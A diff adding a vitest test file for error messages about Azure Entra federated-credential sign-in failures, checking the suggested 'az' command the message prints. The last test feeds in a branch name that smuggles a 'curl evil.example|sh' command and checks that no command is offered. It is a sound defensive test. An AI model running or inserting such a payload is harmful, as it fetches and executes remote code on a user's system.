@@ -1,0 +1,38 @@
+import { expect, it } from 'vitest';
+import { openScenario } from '../../support/scenario.ts';
+
+const { azure, step } = await openScenario();
+
+it.each([
+  ['AADSTS700213', false],
+  ['AADSTS70021', true],
+])("shows the ID token's claims and the command that adds them (%s)", async (code, olderWording) => {
+  azure.identity.olderWording = olderWording;
+  azure.identity.idTokenClaims = { sub: 'repo:octo/churn:environment:prod' };
+  const { error } = await step();
+
+  expect(error).toContain(
+    `Entra refused the sign-in of application '${azure.clientId}' (${code}): no federated credential matches the ID token that was presented.`,
+  );
+  expect(error).toContain("\n  subject: 'repo:octo/churn:environment:prod'\n");
+  expect(error).toContain(`\n  issuer: '${azure.oidc.issuer}'\n`);
+  expect(error).toContain("\n  audience: 'api://AzureADTokenExchange'\n");
+  const parameters = JSON.stringify({
+    name: 'github-environment-prod',
+    issuer: azure.oidc.issuer,
+    subject: 'repo:octo/churn:environment:prod',
+    audiences: ['api://AzureADTokenExchange'],
+  });
+  expect(error).toContain(
+    `\n  az ad app federated-credential create --id ${azure.clientId} --parameters '${parameters}'\n`,
+  );
+  expect(error).toContain("The job names the environment 'prod'");
+});
+
+it('offers no command for a branch whose name a shell would read', async () => {
+  azure.identity.idTokenClaims = { sub: "repo:octo/churn:ref:refs/heads/x';curl evil.example|sh;'" };
+  const { error } = await step();
+
+  expect(error).toContain('(AADSTS700213)');
+  expect(error).not.toContain('az ad app federated-credential create');
+});
